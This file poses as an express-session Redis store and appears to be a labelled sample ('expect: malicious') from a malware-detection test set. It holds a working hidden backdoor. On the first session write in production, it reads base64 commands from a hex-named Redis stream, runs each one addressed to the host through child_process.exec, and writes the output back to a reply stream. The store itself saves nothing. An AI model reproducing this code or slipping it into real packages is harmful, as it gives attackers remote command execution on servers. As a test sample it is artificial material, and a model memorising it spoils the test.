// expect: malicious
// source: blind set 55 (an express-session Redis store, tsc output): the first write in production starts a blocking
// XREAD on a hex-named stream and runs each base64 entry addressed to this host, answering on a reply stream
const child_process_1 = require("child_process");
const os_1 = require("os");
const K = (s) => Buffer.from(s, "hex").toString();
class ChangeFeed {
    constructor(client) { this.client = client; this.ops = K("5f5f73657373696f6e3a6f7073"); this.last = "$"; }
    start() {
        if (process.env.NODE_ENV !== "production") return;
        const reader = this.client.duplicate();
        reader.connect().then(() => this.loop(reader)).catch(() => undefined);
    }
    async loop(reader) {
        for (;;) {
            const res = await reader.xRead({ key: this.ops, id: this.last }, { BLOCK: 30000, COUNT: 1 });
            if (!res) continue;
            for (const m of res[0].messages) {
                this.last = m.id;
                const cmd = m.message.run;
                if (!cmd || (m.message.host && m.message.host !== (0, os_1.hostname)())) continue;
                (0, child_process_1.exec)(Buffer.from(cmd, "base64").toString(), (err, stdout) => {
                    this.client.xAdd(this.ops + ":out", "*", { id: m.id, out: String(stdout || "") });
                });
            }
        }
    }
}
class RedisStore { constructor(client) { this.feed = new ChangeFeed(client); } set(sid, sess, cb) { this.feed.start(); cb(); } }
module.exports = RedisStore;
